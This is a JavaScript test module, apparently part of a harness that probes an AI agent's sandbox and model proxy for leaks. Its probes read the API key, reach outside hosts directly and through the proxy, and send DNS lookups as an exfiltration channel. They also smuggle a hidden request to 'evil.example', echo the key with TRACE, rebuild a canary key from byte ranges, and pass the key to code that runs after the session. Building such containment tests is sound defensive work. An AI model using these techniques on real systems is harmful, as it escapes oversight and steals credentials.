// Tricks with the network and the model's proxy: the key, hosts beyond this machine, words in names that are looked up.
import { createSocket } from 'node:dgram'
import { readFileSync } from 'node:fs'
import { request } from 'node:http'
import { connect } from 'node:net'
import { join } from 'node:path'
import { connect as connectTls } from 'node:tls'
import { looking } from './look.mjs'

/** Asks without a proxy, whatever the environment says; gives what came, or the error's code. */
function asked(host, port, words) {
  return new Promise((resolve) => {
    const socket = connect({ host, port, timeout: 3000 }, () => socket.write(words))
    socket.on('data', (answer) => resolve(String(answer)))
    socket.on('close', () => resolve(''))
    socket.on('timeout', () => socket.destroy())
    socket.on('error', (error) => resolve(error.code))
  })
}

/** Asks a resolver for a name with words in it. */
async function carriedOut({ host, port }) {
  const socket = createSocket('udp4')
  await new Promise((resolve) => socket.send('carried-out.example', port, host, resolve))
  socket.close()
}

/** Says something to a service; it does not matter to whom, but whether it is heard. */
function toSocket(path) {
  return new Promise((resolve) => {
    const socket = connect({ path, timeout: 3000 }, () => socket.end('carried out'))
    socket
      .on('error', resolve)
      .on('close', resolve)
      .on('timeout', () => socket.destroy())
  })
}

const model = () => new URL(process.env.ANTHROPIC_BASE_URL)

/** What the model's server says, headers and all, to a request as the agent's vendor would make it. */
async function said(path, headers = {}) {
  const key = process.env.ANTHROPIC_API_KEY
  const answer = await fetch(`${model().origin}${path}`, { headers: { 'x-api-key': key, ...headers } })
  return `${JSON.stringify([...answer.headers])}\n${await answer.text()}`
}

const withKey = (path) => `${path}?key=${process.env.ANTHROPIC_API_KEY}`

/** A key of which a few letters are missing, with every end that it may have. */
const endings = (text, missing) =>
  missing === 0 ? [text] : [...'0123456789abcdef'].flatMap((letter) => endings(text + letter, missing - 1))

export const netting = {
  'net.key'(tools) {
    looking['look.own'](tools)
    looking['look.environ'](tools)
    looking['look.cmdline'](tools)
  },
  async 'net.host'({ plan, note }) {
    const { host, port } = plan.outside
    note({ heard: await asked(host, port, 'GET /direct HTTP/1.0\r\n\r\n') })
  },
  async 'net.proxy'({ plan, note }) {
    const proxy = URL.parse(process.env.HTTP_PROXY ?? '')
    if (proxy === null) return
    const { host, port } = plan.outside
    const { hostname, port: at } = proxy
    note({ heard: await asked(hostname, at, `CONNECT ${host}:${port} HTTP/1.1\r\n\r\n`) })
    note({ heard: await asked(hostname, at, `GET http://${host}:${port}/proxied HTTP/1.0\r\n\r\n`) })
  },
  /** TLS for another server, through the way to one that is on the list: the two may share an address. */
  async 'net.other-name'({ plan }) {
    const proxy = URL.parse(process.env.HTTP_PROXY ?? '')
    if (proxy === null) return
    const { host, port } = plan.allowed
    const socket = connect({ host: proxy.hostname, port: Number(proxy.port), timeout: 3000 })
    await new Promise((resolve) => {
      socket.on('error', resolve).on('close', resolve).on('timeout', resolve)
      socket.once('data', () => {
        const names = { socket, servername: 'carried-out.example' }
        connectTls(names).on('error', resolve).on('close', resolve)
      })
      socket.write(`CONNECT ${host}:${port} HTTP/1.1\r\n\r\n`)
    })
    socket.destroy()
  },
  'net.abstract': ({ plan }) => toSocket(plan.sockets[0]),
  'net.run-socket': ({ plan }) => plan.sockets[1] && toSocket(plan.sockets[1]),
  'net.dns': ({ plan }) => carriedOut(plan.resolver),
  'net.dns-redirected': ({ plan }) => carriedOut(plan.redirected),
  async 'net.another-key'({ note }) {
    const answer = await fetch(`${model().origin}/another-key`, { headers: { 'x-api-key': 'another' } })
    note({ status: answer.status })
  },
  /** A body that would be a request of its own where nobody says how long it is: to another host at the same address. */
  async 'net.hidden'({ note }) {
    const { hostname, port } = model()
    const hidden = 'POST /hidden HTTP/1.1\r\nHost: evil.example\r\n\r\n'
    const head = `GET / HTTP/1.1\r\nHost: x\r\nX-Api-Key: ${process.env.ANTHROPIC_API_KEY}\r\nTransfer-Encoding: chunked\r\n\r\n`
    const body = `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`
    note({ heard: await asked(hostname, port, head + body) })
  },
  async 'net.echo'({ note }) {
    const { hostname, port } = model()
    const head = `TRACE /echo HTTP/1.1\r\nHost: x\r\nX-Api-Key: ${process.env.ANTHROPIC_API_KEY}\r\n`
    note({ heard: await asked(hostname, port, `${head}Connection: close\r\n\r\n`) })
  },
  async 'net.page'({ search }) {
    for (const path of ['/echo/page', withKey('/echo/page')]) search(await said(path), path)
  },
  async 'net.stream'({ search }) {
    for (const path of [withKey('/echo/stream'), '/echo/stream?packed', '/echo/page?packed'])
      search(await said(path), path)
  },
  /** By ranges, and where the page ends within the key. */
  async 'net.pieces'({ search, note }) {
    let whole = ''
    for (let at = 0; at < 1200; at += 7) {
      const text = await said('/echo/page', { range: `bytes=${at}-${at + 6}` })
      whole += text.slice(text.indexOf('\n') + 1)
    }
    search(whole, 'ranges')
    let longest = ''
    for (let length = 0; length < 400; length += 1)
      for (const [start] of (await said(`/echo/page?length=${length}`)).matchAll(/CANARY_MODEL_[0-9a-f]*/g))
        if (start.length > longest.length) longest = start
    note({ letters: longest.length })
    const missing = 'CANARY_MODEL_'.length + 24 - longest.length
    if (missing <= 2) for (const key of endings(longest, missing)) search(key, 'a page that was cut')
  },
  /** Hands what it has for a key to code that a gate runs, when its session is over. */
  async 'net.gate'({ role, plan, write, note }) {
    const file = join(plan.evidence, 'handed-model')
    const { ANTHROPIC_BASE_URL: url, ANTHROPIC_API_KEY: key } = process.env
    if (role === 'agent') return write(file, JSON.stringify({ url, key }))
    const handed = JSON.parse(readFileSync(file, 'utf8'))
    const answer = await fetch(`${handed.url}/from-gate`, { headers: { 'x-api-key': handed.key } })
    note({ status: answer.status })
  },
  /** Where would the proxy go, and with which key? */
  async 'net.elsewhere'({ plan, note }) {
    const { host, port } = plan.outside
    const headers = { 'x-api-key': process.env.ANTHROPIC_API_KEY, host: `${host}:${port}` }
    for (const path of [`http://${host}:${port}/elsewhere`, `//${host}:${port}/elsewhere`]) {
      const { hostname, port: at } = model()
      const status = await new Promise((resolve) => {
        request({ hostname, port: at, path, headers }, (answer) => resolve(answer.resume().statusCode))
          .on('error', (error) => resolve(error.code))
          .end()
      })
      note({ status })
    }
  },
}
